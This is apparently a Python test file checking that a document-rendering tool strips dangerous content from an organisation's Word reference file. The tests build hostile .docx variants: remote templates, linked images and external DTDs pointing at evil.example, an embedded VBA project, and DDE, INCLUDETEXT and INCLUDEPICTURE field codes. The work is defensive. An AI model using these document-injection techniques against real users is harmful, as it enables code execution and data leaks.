"""Nothing in an organisation's Word document that leads outside or runs gets into a paper."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
import pytest

from actionplan.errors import ActionplanError
from actionplan.outputs.word import docx as word
from actionplan.page import Page
from tests.hostile.judges import judge_office

PAGE = Page("A paper", None, [])
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R = f'xmlns:r="{OFFICE}"'
Parts = dict[str, bytes]


def reference(change: Callable[[Parts], None] = lambda _: None) -> bytes:
    """A Word document with a header, changed as a hostile person would."""
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "Example Council"
    saved = io.BytesIO()
    made.save(saved)
    with zipfile.ZipFile(saved) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    change(parts)
    changed = io.BytesIO()
    with zipfile.ZipFile(changed, "w") as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return changed.getvalue()


def relate(parts: Parts, part: str, kind: str, target: str, mode: str = ' TargetMode="External"') -> None:
    folder, _, name = part.rpartition("/")
    path = f"{folder}/_rels/{name}.rels"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    one = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    parts[path] = parts.get(path, empty).replace(b"</Relationships>", one.encode())


def header(content: str) -> Callable[[Parts], None]:
    """Put something into the header, before its text."""

    def change(parts: Parts) -> None:
        text = parts["word/header1.xml"]
        at = text.index(b"<w:r>")
        parts["word/header1.xml"] = text[:at] + content.encode() + text[at:]

    return change


def field(instruction: str, shown: str = "shown") -> str:
    def run(inside: str) -> str:
        return f"<w:r>{inside}</w:r>"

    return (
        run('<w:fldChar w:fldCharType="begin"/>') + run(f"<w:instrText>{instruction}</w:instrText>")
        + run('<w:fldChar w:fldCharType="separate"/>') + run(f"<w:t>{shown}</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )  # fmt: skip


def template(parts: Parts) -> None:
    relate(parts, "word/settings.xml", "attachedTemplate", "https://evil.example/t.dotm")
    text = parts["word/settings.xml"]
    at = text.index(b">", text.index(b"<w:settings")) + 1
    parts["word/settings.xml"] = text[:at] + f'<w:attachedTemplate {R} r:id="rId99"/>'.encode() + text[at:]


def linked_picture(parts: Parts) -> None:
    relate(parts, "word/header1.xml", "image", "https://evil.example/p.png")
    header(f'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata {R} r:id="rId99" '
           'src="https://evil.example/q.png"/></v:shape></w:pict></w:r>')(parts)  # fmt: skip


def linked_text(parts: Parts) -> None:
    relate(parts, "word/header1.xml", "hyperlink", "https://evil.example/")
    header(f'<w:hyperlink {R} r:id="rId99"><w:r><w:t>kept words</w:t></w:r></w:hyperlink>')(parts)


def package(parts: Parts) -> None:
    relate(parts, "word/document.xml", "aFChunk", "https://evil.example/chunk")


def embedded(parts: Parts) -> None:
    relate(parts, "word/document.xml", "vbaProject", "vbaProject.bin", "")
    parts["word/vbaProject.bin"] = b"evil program"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )


def entity(parts: Parts) -> None:
    text = parts["word/header1.xml"].replace(b"Example Council", b"Example &evil; Council")
    text = text.replace(b"standalone='yes'", b"standalone='no'")  # otherwise it is an error already
    end = text.index(b"?>") + 2
    parts["word/header1.xml"] = text[:end] + b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">' + text[end:]


HOSTILE: dict[str, Callable[[Parts], None]] = {
    "external template": template,
    "linked picture": linked_picture,
    "linked text": linked_text,
    "external part": package,
    "embedded program": embedded,
    "undefined entity": entity,
    "DDE": header(field("DDEAUTO evil cmd")),
    "DDE in lower case": header(field(" dde evil cmd")),
    "INCLUDETEXT": header(field('INCLUDETEXT "//evil/x"')),
    "INCLUDEPICTURE": header(
        f'<w:fldSimple w:instr="INCLUDEPICTURE evil"><w:r><w:t>{"shown"}</w:t></w:r></w:fldSimple>'
    ),
    "a field in a field": header(field(f"IF </w:instrText></w:r>{field('DDE evil')}<w:r><w:instrText> = 1")),
    "a field without an end": header(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE evil</w:instrText></w:r>'
    ),
    "a field without a beginning": header("<w:r><w:instrText>DDE evil</w:instrText></w:r>"),
}


@pytest.mark.parametrize("change", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.one_in(5)
def test_what_leads_outside_or_runs_is_dropped(change: Callable[[Parts], None]) -> None:
    made = word.render(PAGE, reference(change))
    assert list(judge_office(made)) == []
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
    assert b"evil" not in everything
    text = docx.Document(io.BytesIO(made)).sections[0].header._element.xpath("string(.)")
    assert "Example" in text
    assert "Council" in text


def test_what_a_field_or_a_link_shows_stays() -> None:
    for change, words in ((linked_text, "kept words"), (HOSTILE["DDE"], "shown"), (HOSTILE["INCLUDEPICTURE"], "shown")):
        made = word.render(PAGE, reference(change))
        assert words in docx.Document(io.BytesIO(made)).sections[0].header._element.xpath("string(.)")


def test_a_page_number_stays_a_field() -> None:
    made = word.render(PAGE, reference(header(field("PAGE"))))
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert b"PAGE</w:instrText>" in parts.read("word/header1.xml")


def whole(text: bytes) -> Callable[[Parts], None]:
    return lambda parts: parts.update({"word/document.xml": text})


def without(name: str, begin: bytes, end: bytes) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        text = parts[name]
        parts[name] = text[: text.index(begin)] + text[text.index(end) + len(end) :]

    return change


FAULTS = {
    "no page settings": (without("word/document.xml", b"<w:sectPr", b"</w:sectPr>"), "it has no page settings"),
    "no body": (whole(f"<w:document {W}/>".encode()), "it has no body"),
    "a foreign root": (whole(b"<html><body/></html>"), "its main part is not a Word document"),
    "no XML": (whole(b"evil"), "it is not a Word file"),
    "foreign styles": (lambda parts: parts.update({"word/styles.xml": b"<html/>"}), "its styles or settings are not"),
}


@pytest.mark.parametrize(("change", "message"), FAULTS.values(), ids=FAULTS)
def test_an_unusable_reference_document_gives_a_message_with_what_to_do(
    change: Callable[[Parts], None], message: str
) -> None:
    with pytest.raises(ActionplanError) as error:
        word.render(PAGE, reference(change))
    assert f"the reference document cannot be used: {message}" in str(error.value)
    assert "open it in Word and save it again" in str(error.value)
